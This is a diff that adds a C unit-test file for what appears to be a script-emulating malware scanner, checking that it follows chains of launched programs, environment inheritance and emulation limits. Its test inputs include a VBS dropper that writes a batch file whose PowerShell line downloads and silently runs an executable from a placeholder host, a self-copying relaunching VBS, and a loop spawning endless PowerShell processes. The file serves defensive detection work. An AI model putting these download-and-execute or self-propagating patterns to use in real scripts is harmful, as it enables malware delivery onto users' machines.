@@ -1,0 +1,159 @@
+/* Programs that start programs: one world for a whole chain, in order, each thing told once. */
+#include <stdio.h>
+#include <string.h>
+
+#include "../test.h"
+#include "base/arena.h"
+#include "base/buf.h"
+#include "make/scanned.h"
+#include "model/effects.h"
+#include "model/evidence.h"
+#include "model/kinds.h"
+#include "model/limits.h"
+
+static sk_report *scan_text(const char *text, const char *name) { return make_scanned(sk_bytes_str(text), name, NULL); }
+
+static sk_bytes arg_of(const sk_effect *e, const char *name)
+{
+    for (size_t i = 0; i < e->arg_count; i++)
+        if (sk_is(e->args[i].name, name)) return e->args[i].value;
+    return (sk_bytes){NULL, 0};
+}
+
+/* The n-th effect of that operation whose argument holds the text, or NULL. */
+static const sk_effect *find_effect(const sk_report *r, unsigned op, const char *arg, const char *holds, unsigned n)
+{
+    size_t count;
+    const sk_effect *e = sk_report_effects(r, &count);
+    for (size_t i = 0; i < count; i++)
+        if (e[i].op == op && sk_find(arg_of(&e[i], arg), 0, sk_bytes_str(holds)) != SK_NPOS && n-- == 0) return &e[i];
+    return NULL;
+}
+
+static bool has_evidence(const sk_report *r, unsigned id)
+{
+    size_t count;
+    const sk_evidence *e = sk_report_evidence(r, &count);
+    for (size_t i = 0; i < count; i++)
+        if (e[i].id == id) return true;
+    return false;
+}
+
+static void what_one_layer_fetches_the_next_starts(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
+                             "Set sh = CreateObject(\"WScript.Shell\")\r\n"
+                             "t = sh.ExpandEnvironmentStrings(\"%TEMP%\")\r\n"
+                             "Set f = fso.CreateTextFile(t & \"\\b.bat\", True)\r\n"
+                             "f.WriteLine \"set U=http://files.example/x\"\r\n"
+                             "f.WriteLine \"powershell -Command \"\"(New-Object Net.WebClient).DownloadFile('%U%','%TEMP%\\q.exe')\"\"\"\r\n"
+                             "f.WriteLine \"%TEMP%\\q.exe /s\"\r\n"
+                             "f.Close\r\n"
+                             "sh.Run t & \"\\b.bat\", 0, True\r\n"
+                             "If fso.FileExists(t & \"\\q.exe\") Then sh.Run \"rundll32 \" & t & \"\\q.exe,Go\"\r\n",
+                             "a.vbs");
+    const sk_artifact *bat = make_found(r, "b.bat", 0);
+    assert_non_null(bat);
+    assert_int_equal(bat->kind, SK_KIND_SCRIPT_BATCH);
+    assert_int_equal(bat->parent, 0);
+    const sk_artifact *inner = make_found(r, "powershell -Command", 0);
+    assert_non_null(inner);
+    assert_int_equal(inner->parent, bat->id);
+    const sk_effect *fetch = find_effect(r, SK_OP_DOWNLOAD, "result", "succeeded", 0);
+    const sk_effect *start = find_effect(r, SK_OP_RUN, "path", "q.exe", 0);
+    const sk_effect *last = find_effect(r, SK_OP_RUN, "command", "rundll32", 0);
+    assert_non_null(fetch);
+    assert_non_null(start);
+    assert_non_null(last);
+    assert_int_equal(fetch->artifact, inner->id);
+    assert_int_equal(start->artifact, bat->id);
+    assert_int_equal(last->artifact, 0);
+    assert_true(fetch->order < start->order && start->order < last->order);
+    assert_true(sk_find(arg_of(start, "flow"), 0, SK_LIT("network")) != SK_NPOS);
+    assert_true(has_evidence(r, SK_EV_EFFECT_FETCH_RUN));
+    sk_report_free(r);
+}
+
+/* The program that starts a command line tells it; the command line itself does not tell it again. */
+static void a_start_is_told_once(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("CreateObject(\"WScript.Shell\").Run \"powershell -c calc\"\r\n", "a.vbs");
+    assert_non_null(find_effect(r, SK_OP_RUN, "command", "powershell -c calc", 0));
+    assert_null(find_effect(r, SK_OP_RUN, "command", "powershell -c calc", 1));
+    sk_report_free(r);
+}
+
+/* Variables of a program end with it; those of the program that started it are there. */
+static void environment_is_handed_down_and_not_up(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("@echo off\r\nset A=down\r\ncmd /c start notepad.exe %A%\r\n"
+                             "echo set A=up> t.bat\r\necho notepad.exe inside %B%>> t.bat\r\nt.bat\r\nnotepad.exe after %A%\r\n",
+                             "a.bat");
+    assert_non_null(find_effect(r, SK_OP_RUN, "command", "notepad.exe down", 0));
+    assert_non_null(find_effect(r, SK_OP_RUN, "command", "notepad.exe after down", 0));
+    assert_null(find_effect(r, SK_OP_RUN, "command", "after up", 0));
+    sk_report_free(r);
+}
+
+static void a_script_reads_its_own_bytes(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("@echo off\r\nfindstr /b \"::x\" \"%~f0\" > \"%TEMP%\\o.txt\"\r\n"
+                             "for /f \"tokens=2 delims= \" %%a in (%TEMP%\\o.txt) do start %%a\r\nexit /b\r\n::x http://self.example/a\r\n",
+                             "carrier.bat");
+    assert_non_null(find_effect(r, SK_OP_RUN, "command", "http://self.example/a", 0));
+    sk_report_free(r);
+}
+
+/* --- what must end --- */
+
+static void a_program_that_starts_itself_ends(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("%~f0\r\ncmd /c \"%~f0\"\r\nwscript x.vbs\r\n", "again.bat");
+    assert_non_null(r);
+    sk_report_free(r);
+}
+
+static void endless_layers_end_at_the_limit(void **state)
+{
+    (void)state;
+    char text[1200];
+    for (unsigned depth = 1; depth <= 240; depth += 120) { /* deep in its own procedures, too */
+        snprintf(text, sizeof text,
+                 "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
+                 "own = fso.OpenTextFile(WScript.ScriptFullName).ReadAll\r\n"
+                 "p = sh.ExpandEnvironmentStrings(\"%%TEMP%%\") & \"\\s\" & Len(own) & \".vbs\"\r\n"
+                 "Function R(d)\r\nIf d < %u Then\r\nR = R(d + 1) + 1\r\nElse\r\nSet f = fso.CreateTextFile(p, True)\r\n"
+                 "f.Write own & \"'x\" & vbCrLf\r\nf.Close\r\nsh.Run \"wscript.exe \" & p\r\nR = 1\r\nEnd If\r\nEnd Function\r\nx = R(0)\r\n",
+                 depth);
+        sk_report *r = scan_text(text, "deep.vbs");
+        if (depth < 200) assert_true(make_reached(r, SK_LIMIT_EMULATE_LAYERS));
+        sk_report_free(r);
+    }
+}
+
+static void starts_in_a_loop_keep_to_the_budget(void **state)
+{
+    (void)state;
+    sk_report *r = scan_text("Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nSet sh = CreateObject(\"WScript.Shell\")\r\n"
+                             "For i = 1 To 100000\r\nfso.CreateTextFile(\"C:\\Users\\Public\\a.txt\", True).Write \"a\" & i\r\n"
+                             "sh.Run \"powershell -c \"\"$a=1; while($true){$a++}\"\"\"\r\nNext\r\n",
+                             "loop.vbs");
+    assert_true(make_reached(r, SK_LIMIT_EMULATE_STEPS) || make_reached(r, SK_LIMIT_EMULATE_FILES));
+    sk_report_free(r);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(what_one_layer_fetches_the_next_starts), cmocka_unit_test(a_start_is_told_once),
+        cmocka_unit_test(environment_is_handed_down_and_not_up),  cmocka_unit_test(a_script_reads_its_own_bytes),
+        cmocka_unit_test(a_program_that_starts_itself_ends),      cmocka_unit_test(endless_layers_end_at_the_limit),
+        cmocka_unit_test(starts_in_a_loop_keep_to_the_budget),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
